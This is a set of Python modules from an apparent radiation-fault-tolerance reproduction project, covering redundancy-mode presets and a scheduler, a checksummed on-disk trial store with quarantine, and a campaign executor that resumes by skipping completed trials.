        index = MODES.index(mode)
        while index > 0 and MODES[index].current_cost_amps > budget:
            index -= 1
        return MODES[index]

    def on_boundary(self, now: float) -> "ModeChange | None":
        """Reconcile request, policy floor, and budget; grant at most
        one mode change, logged as an ``hmr.mode`` EVR."""
        floor = None
        reason = f"phase requested {self._requested.name}"
        if self.policy is not None:
            self.policy.update(now)
            floor = self.policy.level
        target = self._requested
        if floor is not None and MODES.index(floor) > MODES.index(target):
            target = floor
            reason = f"policy floor {floor.name}"
        capped = self._cap(target)
        if capped is not target:
            reason = f"{reason}; budget caps at {capped.name}"
            target = capped
        if target is self._mode:
            return None
        change = ModeChange(
            time=float(now), from_mode=self._mode, to_mode=target,
            reason=reason,
        )
        self._mode = target
        self.changes.append(change)
        if self.eventlog is not None:
            self.eventlog.log(
                "hmr.mode",
                f"{change.from_mode.name} -> {change.to_mode.name}: {reason}",
                EvrSeverity.WARNING_LO,
                time=now,
                from_mode=change.from_mode.name,
                to_mode=change.to_mode.name,
                replicas=change.to_mode.replicas,
            )
        if self.obs.enabled:
            self.obs.tracer.event(
                "hmr.mode", t=float(now),
                from_mode=change.from_mode.name,
                to_mode=change.to_mode.name,
            )
            self.obs.metrics.counter("hmr.mode_changes").inc()
        return change

    # ------------------------------------------------------------------
    def plan_segments(self, n_datasets: int) -> "list[ModeSegment]":
        """The phase list as a deterministic mode schedule over
        ``n_datasets`` datasets (largest-remainder apportionment;
        zero-dataset phases drop out). With no phases, one segment of
        the current mode covers everything."""
        if n_datasets < 1:
            raise ConfigurationError("need >= 1 dataset to plan")
        if not self.phases:
            return [mode_segment(self._mode, n_datasets)]
        counts = _apportion(
            [phase.fraction for phase in self.phases], n_datasets
        )
        return [
            mode_segment(self._cap(phase.mode), count, name=phase.name)
            for phase, count in zip(self.phases, counts)
            if count > 0
        ]
