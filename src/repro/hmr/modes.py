"""The redundancy-mode lattice: hybrid modular redundancy presets.

The paper's EMR is one fixed point in a wider redundancy/performance
space. "Hybrid Modular Redundancy" and "Trikarenos" (PAPERS.md)
characterize runtime-switchable independent vs. lockstep/voted modes
on RISC-V clusters; this module names the four canonical points of
that space for the simulated Pi-class board and gives every layer of
the repo one shared vocabulary for "how redundant are we right now":

* ``INDEPENDENT`` — every core its own lane, no replication. Maximum
  throughput, zero SDC coverage beyond ECC.
* ``DUPLEX`` — two replicas + checkpoint/rollback: disagreement
  detects (and the supervisor replays from the checkpoint) but cannot
  out-vote. The legacy ``economy`` protection level.
* ``EMR_VOTED`` — the paper's deployed configuration: selective
  replication with a triple vote. The legacy ``standard`` level.
* ``TMR_LOCKSTEP`` — full three-way lockstep: everything replicated
  (threshold 0), strictest ILD. The legacy ``hardened`` level.

A :class:`RedundancyMode` is deliberately shaped like
:class:`~repro.recovery.policy.ProtectionLevel` (name, ``n_executors``,
``replication_threshold``, ``ild``, ``current_cost_amps``) so the
:class:`~repro.recovery.policy.DegradationPolicy` can walk either
lattice unchanged — the legacy three-rung ladder is the sub-lattice
``MODES[1:]`` under the aliases ``economy``/``standard``/``hardened``.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from ..core.ild.detector import IldConfig
from ..errors import ConfigurationError

__all__ = [
    "DUPLEX",
    "EMR_VOTED",
    "INDEPENDENT",
    "MODES",
    "TMR_LOCKSTEP",
    "RedundancyMode",
    "mode_named",
]


@dataclass(frozen=True)
class RedundancyMode:
    """One point of the HMR lattice: a coherent core-split + EMR + ILD
    + DVFS preset with its power price."""

    name: str
    #: Parallel executor lanes the scheduler spreads jobs across.
    n_executors: int
    #: Copies of every job that actually run (the redundancy factor).
    #: ``INDEPENDENT`` decouples the two: four lanes, one copy each.
    replicas: int
    #: EMR acceptance threshold (fraction of datasets replicated);
    #: 0.0 replicates everything (full lockstep).
    replication_threshold: float
    #: ILD deployment parameters while in this mode.
    ild: IldConfig
    #: Rough board current while protected at this mode (amps), used
    #: when a power budget caps the lattice.
    current_cost_amps: float
    #: Cores running protected work vs. left free for opportunistic
    #: (unprotected) compute, summing to the Pi's four cores.
    core_split: "tuple[int, int]" = (3, 1)
    #: DVFS operating point: index into ``CoreSpec.freq_levels``
    #: applied at mode entry (-1 = the top step, today's behavior).
    freq_level: int = -1
    #: Standing current the protection machinery itself draws over the
    #: independent baseline (amps) — the per-lane tick-mask increment.
    standing_current_amps: float = 0.0
    #: The fleet/Table-7 scheme vocabulary this mode maps onto.
    scheme: str = "emr"
    #: Legacy names that resolve to this mode (the old ladder rungs).
    aliases: "tuple[str, ...]" = field(default=())

    def __post_init__(self) -> None:
        if self.n_executors < 1 or self.replicas < 1:
            raise ConfigurationError(
                "a redundancy mode needs >= 1 executor and >= 1 replica"
            )
        if self.replicas > self.n_executors:
            raise ConfigurationError(
                f"mode {self.name!r} asks for {self.replicas} replicas on "
                f"{self.n_executors} executors"
            )
        if not 0.0 <= self.replication_threshold <= 1.0:
            raise ConfigurationError(
                "replication_threshold must be in [0, 1]"
            )
        if self.scheme not in ("none", "3mr", "emr"):
            raise ConfigurationError(
                f"mode {self.name!r} maps to unknown scheme {self.scheme!r}"
            )

    @property
    def voted(self) -> bool:
        """Whether replica outputs are compared (>= 2 copies)."""
        return self.replicas >= 2

    def as_tick_mode(self):
        """This mode's per-lane tick mask for ``repro.sim.batch``."""
        from ..sim.batch import TickLaneMode

        return TickLaneMode(
            name=self.name, extra_current_amps=self.standing_current_amps
        )

    def matches(self, name: str) -> bool:
        return name == self.name or name in self.aliases


#: Every core its own lane: 4 independent executors, no replication,
#: no voting, no standing protection draw. Pure throughput.
INDEPENDENT = RedundancyMode(
    name="independent",
    n_executors=4,
    replicas=1,
    replication_threshold=1.0,
    ild=IldConfig(residual_threshold_amps=0.075, persistence_seconds=4.0),
    current_cost_amps=0.42,
    core_split=(0, 4),
    standing_current_amps=0.0,
    scheme="none",
)

#: Duplication + checkpoint: two replicas detect (the supervisor's
#: checkpoint/rollback/replay resolves), two cores stay free.
DUPLEX = RedundancyMode(
    name="duplex-checkpoint",
    n_executors=2,
    replicas=2,
    replication_threshold=0.5,
    ild=IldConfig(residual_threshold_amps=0.075, persistence_seconds=4.0),
    current_cost_amps=0.50,
    core_split=(2, 2),
    standing_current_amps=0.08,
    scheme="emr",
    aliases=("economy",),
)

#: The paper's deployed configuration: selective replication, triple
#: vote, Table-1 ILD.
EMR_VOTED = RedundancyMode(
    name="emr-voted",
    n_executors=3,
    replicas=3,
    replication_threshold=0.2,
    ild=IldConfig(),
    current_cost_amps=0.68,
    core_split=(3, 1),
    standing_current_amps=0.26,
    scheme="emr",
    aliases=("standard",),
)

#: Full three-way lockstep: replicate everything, hair-trigger ILD,
#: one DVFS step down to hold the thermal/power envelope.
TMR_LOCKSTEP = RedundancyMode(
    name="3mr-lockstep",
    n_executors=3,
    replicas=3,
    replication_threshold=0.0,
    ild=IldConfig(residual_threshold_amps=0.045, persistence_seconds=2.0),
    current_cost_amps=0.72,
    core_split=(3, 1),
    freq_level=-2,
    standing_current_amps=0.30,
    scheme="3mr",
    aliases=("hardened",),
)

#: The lattice, weakest to strongest. ``MODES[1:]`` is the legacy
#: economy/standard/hardened ladder under its new names.
MODES: "tuple[RedundancyMode, ...]" = (
    INDEPENDENT, DUPLEX, EMR_VOTED, TMR_LOCKSTEP,
)


def mode_named(name: str) -> RedundancyMode:
    """Resolve a canonical mode name or a legacy ladder alias."""
    for mode in MODES:
        if mode.matches(name):
            return mode
    known = [m.name for m in MODES]
    raise ConfigurationError(
        f"unknown redundancy mode {name!r}; choose from {known} "
        f"(legacy aliases: economy, standard, hardened)"
    )
