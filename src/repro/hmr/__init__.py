"""Hybrid modular redundancy: the runtime mode plane.

One vocabulary for "how redundant are we right now", shared by the EMR
runtime (mode schedules at jobset barriers), the recovery policy (a
lattice the :class:`~repro.recovery.policy.DegradationPolicy` walks),
the mission simulator (per-chunk mode decisions), the batch tick
engine (per-lane mode masks), and the fleet (schemes as fixed-mode
policies). See ``docs/hmr.md``.
"""

from .modes import (
    DUPLEX,
    EMR_VOTED,
    INDEPENDENT,
    MODES,
    TMR_LOCKSTEP,
    RedundancyMode,
    mode_named,
)
from .scheduler import HMRScheduler, ModeChange, WorkloadPhase, mode_segment

__all__ = [
    "DUPLEX",
    "EMR_VOTED",
    "INDEPENDENT",
    "MODES",
    "TMR_LOCKSTEP",
    "HMRScheduler",
    "ModeChange",
    "RedundancyMode",
    "WorkloadPhase",
    "mode_named",
    "mode_segment",
]
