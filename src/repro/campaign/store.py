"""Content-addressed on-disk store for completed campaign trials.

Layout: ``<root>/<fp[:2]>/<fp>.json`` — one JSON document per trial,
keyed by the trial's fingerprint (:class:`repro.campaign.spec.TrialSpec`).
Two-level fan-out keeps directories small for multi-thousand-trial
campaigns.

Durability and integrity are first-class (the ground-segment analog of
the flight stack's no-silent-escape invariant):

* **Atomic, durable writes.** :meth:`TrialStore.put` writes a temp
  file, ``fsync``\\ s it, ``os.replace``\\ s it into place, then
  ``fsync``\\ s the directory — a host power cut can no longer lose a
  trial that resume later trusts as committed. Host disk faults with a
  clear operator action (``ENOSPC``/``EACCES``/``EROFS``/``EDQUOT``)
  raise :class:`~repro.errors.StoreWriteError` instead of a bare
  ``OSError``.
* **Checksummed entries, verified on read.** Every entry embeds a
  SHA-256 over its own canonical JSON; :meth:`TrialStore.get` verifies
  it. Corrupt, truncated, or stale-schema entries are **counted**
  (:attr:`TrialStore.counters`), **quarantined** to
  ``<root>/.quarantine/`` for post-mortem, and reported once via a
  one-line warning — never silently treated as absent. The engine then
  re-runs the trial, so a rotting store degrades to extra work, not
  wrong results.
* **Audit tooling.** :meth:`verify` (read-only), :meth:`scrub`
  (verify + quarantine), and :meth:`stats` back the ``repro store``
  CLI subcommands.
"""

from __future__ import annotations

import errno
import hashlib
import json
import os
import tempfile
import warnings
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

from ..errors import StoreWriteError

__all__ = [
    "STORE_SCHEMA",
    "StoreVerifyReport",
    "TrialStore",
    "entry_checksum",
]

#: Entry schema version; entries with a different schema are ignored.
#: v2 added the embedded content checksum (older entries re-run).
STORE_SCHEMA = 2

#: ``OSError`` errnos with an unambiguous operator action; ``put``
#: translates these into :class:`~repro.errors.StoreWriteError`.
_TERMINAL_ERRNOS = frozenset(
    e
    for e in (
        errno.ENOSPC,
        errno.EACCES,
        errno.EROFS,
        getattr(errno, "EDQUOT", None),
    )
    if e is not None
)


def entry_checksum(entry: dict) -> str:
    """SHA-256 over the entry's canonical JSON, ``checksum`` excluded.

    Canonical form (sorted keys, compact separators) matches what
    :meth:`TrialStore.put` writes, so the digest covers exactly the
    bytes on disk minus the checksum field itself.
    """
    material = json.dumps(
        {k: v for k, v in entry.items() if k != "checksum"},
        sort_keys=True,
        separators=(",", ":"),
    )
    return hashlib.sha256(material.encode("utf-8")).hexdigest()


def _fsync_path(path) -> None:
    """Best-effort fsync of a directory (entry durability on rename)."""
    try:
        fd = os.open(path, os.O_RDONLY)
    except OSError:
        return  # platform without directory fds; nothing more we can do
    try:
        os.fsync(fd)
    finally:
        os.close(fd)


@dataclass
class StoreVerifyReport:
    """What a full-store integrity walk found."""

    total: int = 0
    ok: int = 0
    corrupt: "list[str]" = field(default_factory=list)  # fingerprints
    stale: "list[str]" = field(default_factory=list)  # wrong schema
    quarantined: int = 0  # moved this walk (scrub only)

    @property
    def clean(self) -> bool:
        return not self.corrupt and not self.stale

    def to_dict(self) -> dict:
        return {
            "total": self.total,
            "ok": self.ok,
            "corrupt": list(self.corrupt),
            "stale": list(self.stale),
            "quarantined": self.quarantined,
        }


class TrialStore:
    """Directory of fingerprint-addressed trial results."""

    def __init__(self, root) -> None:
        self.root = Path(root)
        self.root.mkdir(parents=True, exist_ok=True)
        #: Integrity accounting for this handle: ``corrupt`` (bad
        #: JSON / bad checksum / truncated / non-dict), ``stale``
        #: (well-formed, wrong schema), ``quarantined`` (files moved
        #: aside), ``unreadable`` (I/O errors other than absence).
        self.counters: "Counter[str]" = Counter()

    @classmethod
    def coerce(cls, store) -> "TrialStore | None":
        """Accept a TrialStore, a path, or None."""
        if store is None or isinstance(store, cls):
            return store
        return cls(store)

    def path(self, fingerprint: str) -> Path:
        return self.root / fingerprint[:2] / f"{fingerprint}.json"

    @property
    def quarantine_dir(self) -> Path:
        return self.root / ".quarantine"

    # ------------------------------------------------------------------
    # read side
    # ------------------------------------------------------------------
    def _load(self, path: Path) -> "tuple[dict | None, str | None]":
        """Parse + validate one entry file.

        Returns ``(entry, None)`` for a good entry, ``(None, reason)``
        otherwise, where ``reason`` is ``"absent"`` (no file — the only
        non-defect case), ``"unreadable"``, ``"corrupt"``, or
        ``"stale"``. Never mutates the store.
        """
        try:
            with path.open("r", encoding="utf-8") as fh:
                entry = json.load(fh)
        except FileNotFoundError:
            return None, "absent"
        except OSError:
            return None, "unreadable"
        except ValueError:
            return None, "corrupt"
        if not isinstance(entry, dict):
            return None, "corrupt"
        if entry.get("schema") != STORE_SCHEMA:
            return None, "stale"
        stored = entry.get("checksum")
        if not isinstance(stored, str) or stored != entry_checksum(entry):
            return None, "corrupt"
        return entry, None

    def _quarantine(self, path: Path) -> bool:
        """Move a bad entry to ``.quarantine/`` for post-mortem."""
        try:
            self.quarantine_dir.mkdir(parents=True, exist_ok=True)
            os.replace(path, self.quarantine_dir / path.name)
        except OSError:
            return False  # already moved by a peer, or unmovable
        self.counters["quarantined"] += 1
        return True

    def get(self, fingerprint: str) -> "dict | None":
        """The stored entry, or None if absent.

        Defective entries — truncated or corrupt JSON, a checksum
        mismatch, a stale schema, an unreadable file — are counted,
        quarantined to ``.quarantine/``, and reported with a one-line
        warning, then treated as absent so the engine re-runs the
        trial. A bad entry is never served.
        """
        path = self.path(fingerprint)
        entry, reason = self._load(path)
        if entry is not None:
            return entry
        if reason == "absent":
            return None
        self.counters[reason] += 1
        self._quarantine(path)
        warnings.warn(
            f"trial store {self.root}: {reason} entry {fingerprint[:12]}… "
            f"quarantined to {self.quarantine_dir.name}/ and scheduled "
            "for re-run",
            RuntimeWarning,
            stacklevel=2,
        )
        return None

    # ------------------------------------------------------------------
    # write side
    # ------------------------------------------------------------------
    def _write_entry(self, path: Path, entry: dict) -> None:
        """Durable atomic write: tmp file → fsync → rename → dir fsync.

        Separated out so the host-fault chaos tier can inject
        fill-disk-style failures at exactly this seam.
        """
        path.parent.mkdir(parents=True, exist_ok=True)
        fd, tmp = tempfile.mkstemp(
            dir=path.parent, prefix=f".{path.stem[:8]}.", suffix=".tmp"
        )
        try:
            with os.fdopen(fd, "w", encoding="utf-8") as fh:
                json.dump(entry, fh, sort_keys=True, separators=(",", ":"))
                fh.flush()
                os.fsync(fh.fileno())
            os.replace(tmp, path)
        except BaseException:
            try:
                os.unlink(tmp)
            except OSError:
                pass
            raise
        _fsync_path(path.parent)

    def put(self, fingerprint: str, entry: dict) -> None:
        """Atomically and durably persist one trial entry.

        The entry is stamped with its content checksum. Disk faults
        the operator must act on (full disk, permissions, read-only
        mount, quota) raise :class:`~repro.errors.StoreWriteError`.
        """
        entry = dict(entry)
        entry["checksum"] = entry_checksum(entry)
        try:
            self._write_entry(self.path(fingerprint), entry)
        except OSError as exc:
            if exc.errno in _TERMINAL_ERRNOS:
                raise StoreWriteError(
                    f"trial store {self.root}: cannot persist trial "
                    f"{fingerprint[:12]}…: {exc.strerror or exc} "
                    f"(errno {exc.errno}); completed work up to this "
                    "point is on disk — free space / fix permissions "
                    "and resume"
                ) from exc
            raise

    # ------------------------------------------------------------------
    # audit tooling (the `repro store` CLI)
    # ------------------------------------------------------------------
    def _walk(self, quarantine: bool) -> StoreVerifyReport:
        report = StoreVerifyReport()
        for path in sorted(self.root.glob("??/*.json")):
            report.total += 1
            entry, reason = self._load(path)
            if entry is not None:
                report.ok += 1
                continue
            bucket = report.stale if reason == "stale" else report.corrupt
            bucket.append(path.stem)
            if quarantine:
                self.counters[reason] += 1
                if self._quarantine(path):
                    report.quarantined += 1
        return report

    def verify(self) -> StoreVerifyReport:
        """Read-only integrity walk over every entry."""
        return self._walk(quarantine=False)

    def scrub(self) -> StoreVerifyReport:
        """Integrity walk that quarantines every defective entry."""
        return self._walk(quarantine=True)

    def stats(self) -> dict:
        """Occupancy and integrity accounting, JSON-safe."""
        entries = 0
        size = 0
        campaigns: "Counter[str]" = Counter()
        for path in self.root.glob("??/*.json"):
            entries += 1
            try:
                size += path.stat().st_size
            except OSError:
                pass
            entry, _ = self._load(path)
            if entry is not None:
                campaigns[str(entry.get("campaign", "?"))] += 1
        quarantined = len(list(self.quarantine_dir.glob("*.json")))
        return {
            "root": str(self.root),
            "entries": entries,
            "bytes": size,
            "quarantined": quarantined,
            "campaigns": {k: campaigns[k] for k in sorted(campaigns)},
            "counters": {k: int(v) for k, v in sorted(self.counters.items())},
        }

    # ------------------------------------------------------------------
    def contains(self, fingerprint: str) -> bool:
        """Cheap existence probe: one ``stat``, no read, no checksum.

        A ``True`` answer means *a file is present*, not that its
        content is sound — defective entries still show as present
        until something reads them (:meth:`get`, :meth:`scrub`). This
        is the right trade for ``status --fast`` progress counting
        over multi-thousand-trial grids; anything that will *trust*
        the stored value (``execute``'s hit path) goes through
        :meth:`get`, which verifies the checksum.
        """
        return self.path(fingerprint).exists()

    def __contains__(self, fingerprint: str) -> bool:
        return self.contains(fingerprint)

    def fingerprints(self) -> "list[str]":
        """Every fingerprint currently stored (sorted)."""
        return sorted(p.stem for p in self.root.glob("??/*.json"))

    def __len__(self) -> int:
        return len(self.fingerprints())
