"""Content-addressed on-disk store for completed campaign trials.

Layout: ``<root>/<fp[:2]>/<fp>.json`` — one JSON document per trial,
keyed by the trial's fingerprint (:class:`repro.campaign.spec.TrialSpec`).
Two-level fan-out keeps directories small for multi-thousand-trial
campaigns.

Writes are atomic (temp file + ``os.replace``) so a campaign killed
mid-write never leaves a truncated entry: a trial is either fully in
the store or absent, which is exactly the invariant resume relies on.
Unreadable/corrupt entries are treated as absent and re-run.
"""

from __future__ import annotations

import json
import os
import tempfile
from pathlib import Path

__all__ = ["TrialStore", "STORE_SCHEMA"]

#: Entry schema version; entries with a different schema are ignored.
STORE_SCHEMA = 1


class TrialStore:
    """Directory of fingerprint-addressed trial results."""

    def __init__(self, root) -> None:
        self.root = Path(root)
        self.root.mkdir(parents=True, exist_ok=True)

    @classmethod
    def coerce(cls, store) -> "TrialStore | None":
        """Accept a TrialStore, a path, or None."""
        if store is None or isinstance(store, cls):
            return store
        return cls(store)

    def path(self, fingerprint: str) -> Path:
        return self.root / fingerprint[:2] / f"{fingerprint}.json"

    def get(self, fingerprint: str) -> "dict | None":
        """The stored entry, or None if absent/corrupt/stale-schema."""
        path = self.path(fingerprint)
        try:
            with path.open("r", encoding="utf-8") as fh:
                entry = json.load(fh)
        except (OSError, ValueError):
            return None
        if not isinstance(entry, dict) or entry.get("schema") != STORE_SCHEMA:
            return None
        return entry

    def put(self, fingerprint: str, entry: dict) -> None:
        """Atomically persist one trial entry."""
        path = self.path(fingerprint)
        path.parent.mkdir(parents=True, exist_ok=True)
        fd, tmp = tempfile.mkstemp(
            dir=path.parent, prefix=f".{fingerprint[:8]}.", suffix=".tmp"
        )
        try:
            with os.fdopen(fd, "w", encoding="utf-8") as fh:
                json.dump(entry, fh, sort_keys=True, separators=(",", ":"))
            os.replace(tmp, path)
        except BaseException:
            try:
                os.unlink(tmp)
            except OSError:
                pass
            raise

    def __contains__(self, fingerprint: str) -> bool:
        return self.path(fingerprint).exists()

    def fingerprints(self) -> "list[str]":
        """Every fingerprint currently stored (sorted)."""
        return sorted(p.stem for p in self.root.glob("??/*.json"))

    def __len__(self) -> int:
        return len(self.fingerprints())
