"""The campaign executor: run a declared grid, skip what's done.

:func:`execute` is the one way any experiment's trials reach
:func:`repro.parallel.pmap`. Since the round-based refactor it is a
thin wrapper: the campaign becomes the trivial one-round
:class:`~repro.campaign.stream.TrialSource`
(:class:`~repro.campaign.stream.GridSource`) and drains through
:func:`~repro.campaign.stream.execute_stream` — the same core that
runs multi-round adaptive streams (:mod:`repro.adaptive`). For each
round the engine:

1. resolves the round's trial fingerprints (:meth:`Campaign.specs`);
2. consults the :class:`~repro.campaign.store.TrialStore` (if given)
   and **skips** trials whose fingerprint is already stored;
3. runs the missing trials through ``pmap`` — each in a worker with
   its own :func:`~repro.campaign.spec.trial_rng` generator and (when
   tracing) a fresh per-trial :class:`~repro.obs.TraceRecorder`;
4. canonicalises every result — stored hit or fresh execution alike —
   through an ``encode -> JSON -> decode`` round-trip, so resumed and
   cold runs aggregate **byte-identically**;
5. persists each fresh result (with its trace records) *as it lands*
   — not after the batch — so a run killed mid-grid keeps every
   completed trial; finally the stream merges all trace records, in
   round-major grid order, into one JSONL file.

Store accounting lands in the caller's
:class:`~repro.obs.metrics.MetricsRegistry` under
``campaign.store.hits`` / ``campaign.store.misses`` /
``campaign.trials.executed`` — the counters CI uses to prove a resume
actually skipped completed work.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import TYPE_CHECKING

from ..parallel import ParallelReport, pmap_report
from .spec import Campaign, TrialSpec, jsonify, trial_rng
from .store import STORE_SCHEMA, TrialStore

if TYPE_CHECKING:  # pragma: no cover - typing only
    from ..ground.supervision import QuarantinedTrial

__all__ = ["CampaignResult", "CampaignStatus", "execute", "status"]


def _execute_trial(payload):
    """Run one trial in a worker; top-level so the pool can pickle it.

    Returns ``(value, records)`` where ``records`` is the trial's
    trace (``None`` when tracing is off). The tracer is created here —
    not by ``pmap`` — so the records can ride into the store and a
    resumed run can replay them without re-executing the trial.
    """
    fn, item, seed_root, seed_index, with_tracer = payload
    tracer = None
    if with_tracer:
        from ..obs import TraceRecorder

        tracer = TraceRecorder(ring_size=None)
    value = fn(item, trial_rng(seed_root, seed_index), tracer)
    return value, (tracer.drain() if tracer is not None else None)


@dataclass(frozen=True)
class CampaignStatus:
    """How much of a campaign a store already holds.

    ``corrupt`` counts defective entries (bad checksum, truncation,
    stale schema) the scan quarantined — they show as pending because
    they will be re-run. A fast scan (``status(..., fast=True)``)
    never reads entries, so it always reports ``corrupt=0``.
    """

    name: str
    total: int
    completed: int
    corrupt: int = 0

    @property
    def pending(self) -> int:
        return self.total - self.completed


@dataclass
class CampaignResult:
    """Everything one campaign (or stream round) produced, grid order.

    ``quarantined`` is non-empty only for supervised runs
    (``supervision=``): trials that exhausted their retry budget, as
    :class:`repro.ground.supervision.QuarantinedTrial` entries. Their
    slots in ``values`` hold ``None``; the campaign still completed.
    """

    name: str
    values: "list[object]"
    specs: "list[TrialSpec]"
    executed: int
    store_hits: int
    report: "ParallelReport | None"
    quarantined: "tuple[QuarantinedTrial, ...]" = ()

    @property
    def fingerprints(self) -> "list[str]":
        return [spec.fingerprint for spec in self.specs]


@dataclass
class RoundExecution:
    """One executed round, before the stream folds it.

    ``canonical`` holds the JSON-safe (pre-``decode``) values the
    outcome digest — and therefore the next round's seeds — derive
    from. ``records`` carries per-trial trace-record lists in grid
    order (``None`` when tracing is off); the stream merges them
    across rounds into one file.
    """

    result: CampaignResult
    canonical: "list[object]"
    records: "list[list] | None"


def _canonical_result(campaign: Campaign, value):
    """Encode + JSON round-trip: the exact object a store hit yields."""
    encoded = campaign.encode(value) if campaign.encode is not None else value
    return json.loads(json.dumps(jsonify(encoded)))


def _defects(store: "TrialStore | None") -> int:
    """Total defective-entry observations on a store handle."""
    if store is None:
        return 0
    return sum(
        store.counters[k] for k in ("corrupt", "stale", "unreadable")
    )


def run_round(
    campaign: Campaign,
    *,
    workers: "int | None" = 1,
    store: "TrialStore | None" = None,
    with_tracer: bool = False,
    metrics=None,
    force_pool: bool = False,
    chunksize: "int | None" = None,
    supervision=None,
) -> RoundExecution:
    """Execute one round (a fully resolved grid) through ``pmap``.

    This is the body the pre-stream ``execute`` had, minus trace-file
    writing: records are *returned* (``RoundExecution.records``) so
    the stream can merge every round into one file. Callers outside
    the stream machinery want :func:`execute` /
    :func:`~repro.campaign.stream.execute_stream`.
    """
    store = TrialStore.coerce(store)
    specs = campaign.specs()

    defects_before = _defects(store)
    hits: "dict[int, dict]" = {}
    if store is not None:
        for index, spec in enumerate(specs):
            entry = store.get(spec.fingerprint)
            if entry is not None:
                hits[index] = entry
    defect_count = _defects(store) - defects_before

    pending = [i for i in range(len(specs)) if i not in hits]
    payloads = [
        (
            campaign.trial_fn,
            campaign.trials[i].item,
            specs[i].seed_root,
            specs[i].seed_index,
            with_tracer,
        )
        for i in pending
    ]

    canonical: "dict[int, object]" = {}
    record_dicts: "dict[int, list | None]" = {}

    def _absorb(position: int, outcome) -> None:
        """Canonicalise and persist one trial the moment it lands —
        incremental, so a run killed mid-grid keeps its progress."""
        value, records = outcome
        i = pending[position]
        canonical[i] = _canonical_result(campaign, value)
        record_dicts[i] = (
            None if records is None else [r.to_dict() for r in records]
        )
        if store is not None:
            spec = specs[i]
            store.put(
                spec.fingerprint,
                {
                    "schema": STORE_SCHEMA,
                    "fingerprint": spec.fingerprint,
                    "campaign": campaign.name,
                    "params": spec.params,
                    "seed_root": spec.seed_root,
                    "seed_index": spec.seed_index,
                    "result": canonical[i],
                    "records": record_dicts[i],
                },
            )

    report = pmap_report(
        _execute_trial,
        payloads,
        workers=workers,
        force_pool=force_pool,
        chunksize=chunksize,
        on_result=_absorb,
        supervision=supervision,
        metrics=metrics if supervision is not None else None,
    )

    # Resolve pmap-level quarantines (positions in `pending`) to their
    # campaign identities, and splice ground events into trial traces.
    quarantined: "list[QuarantinedTrial]" = []
    quarantined_grid: "set[int]" = set()
    if report.quarantined:
        from ..ground.supervision import QuarantinedTrial

        for q in report.quarantined:
            i = pending[q.index]
            quarantined_grid.add(i)
            canonical[i] = None
            record_dicts[i] = None
            quarantined.append(
                QuarantinedTrial(
                    index=i,
                    fingerprint=specs[i].fingerprint,
                    params=specs[i].params,
                    attempts=q.attempts,
                    error=q.error,
                )
            )
    if with_tracer and report.ground_events:
        for position, events in enumerate(report.ground_events):
            if not events:
                continue
            i = pending[position]
            record_dicts[i] = [r.to_dict() for r in events] + (
                record_dicts[i] or []
            )

    trace_missing = 0
    for i, entry in hits.items():
        canonical[i] = entry["result"]
        record_dicts[i] = entry.get("records")
        if with_tracer and record_dicts[i] is None:
            trace_missing += 1

    decode = campaign.decode if campaign.decode is not None else lambda v: v
    values = [
        None
        if i in quarantined_grid
        else decode(canonical[i])
        for i in range(len(specs))
    ]

    records = None
    if with_tracer:
        from ..obs import TraceRecord

        records = [
            [TraceRecord.from_dict(d) for d in (record_dicts[i] or [])]
            for i in range(len(specs))
        ]

    if metrics is not None:
        metrics.counter("campaign.trials.total").inc(len(specs))
        metrics.counter("campaign.trials.executed").inc(len(pending))
        if quarantined:
            metrics.counter("campaign.trials.quarantined").inc(
                len(quarantined)
            )
        if store is not None:
            metrics.counter("campaign.store.hits").inc(len(hits))
            metrics.counter("campaign.store.misses").inc(len(pending))
            if defect_count:
                metrics.counter("campaign.store.corrupt").inc(defect_count)
        if trace_missing:
            metrics.counter("campaign.trace.missing").inc(trace_missing)

    result = CampaignResult(
        name=campaign.name,
        values=values,
        specs=specs,
        executed=len(pending) - len(quarantined),
        store_hits=len(hits),
        report=report,
        quarantined=tuple(quarantined),
    )
    return RoundExecution(
        result=result,
        canonical=[canonical[i] for i in range(len(specs))],
        records=records,
    )


def execute(
    campaign: Campaign,
    *,
    workers: "int | None" = 1,
    store=None,
    trace_path: "str | None" = None,
    metrics=None,
    force_pool: bool = False,
    chunksize: "int | None" = None,
    supervision=None,
) -> CampaignResult:
    """Run ``campaign``, skipping trials the store already holds.

    The static grid is the trivial one-round trial stream: this wraps
    the campaign in a :class:`~repro.campaign.stream.GridSource` and
    drains it through :func:`~repro.campaign.stream.execute_stream` —
    byte-identical to the historical one-shot executor (same
    fingerprints, same store entries, same trace bytes).

    With ``supervision`` (a :class:`repro.ground.GroundPolicy`) the
    missing trials run under the fault-tolerant ground executor:
    crashed/hung workers are replaced, failing trials retried with
    byte-identical seeds, and poison trials quarantined — the campaign
    then *completes* with ``result.quarantined`` naming the survivors'
    missing peers instead of the whole run dying.
    """
    from .stream import GridSource, execute_stream

    stream = execute_stream(
        GridSource(campaign),
        workers=workers,
        store=store,
        trace_path=trace_path,
        metrics=metrics,
        force_pool=force_pool,
        chunksize=chunksize,
        supervision=supervision,
    )
    return stream.rounds[0].result


def status(campaign: Campaign, store, *, fast: bool = False) -> CampaignStatus:
    """How many of ``campaign``'s trials ``store`` already holds.

    The default scan reads and checksums every held entry: defective
    entries found along the way are quarantined, counted in
    ``corrupt``, and reported as pending (they will re-run). With
    ``fast=True`` the scan is a pure existence probe
    (:meth:`TrialStore.contains`) — no reads, no checksum verification
    — which is O(stat) per trial on multi-thousand-trial grids; the
    full verify still happens on :func:`execute`'s hit path before any
    stored value is trusted.
    """
    store = TrialStore.coerce(store)
    specs = campaign.specs()
    completed = 0
    corrupt = 0
    if store is not None:
        if fast:
            completed = sum(
                1 for spec in specs if store.contains(spec.fingerprint)
            )
        else:
            defects_before = _defects(store)
            completed = sum(
                1 for spec in specs if store.get(spec.fingerprint) is not None
            )
            corrupt = _defects(store) - defects_before
    return CampaignStatus(
        name=campaign.name,
        total=len(specs),
        completed=completed,
        corrupt=corrupt,
    )
