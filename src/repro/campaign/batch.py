"""Batched campaign execution through the SoA tick engine.

:func:`execute_batched` is the campaign-layer entry point for the
structure-of-arrays backend (:mod:`repro.sim.batch`). Where
:func:`repro.campaign.engine.execute` hands each trial to a worker
process, ``execute_batched`` hands *groups* of trials to one
``batch_fn(items, rngs)`` call that advances all of them in lockstep —
one :class:`~repro.sim.batch.BatchMachines` sweep instead of N scalar
tick loops.

The determinism contract is unchanged. Each lane receives exactly the
generator the scalar engine would have built —
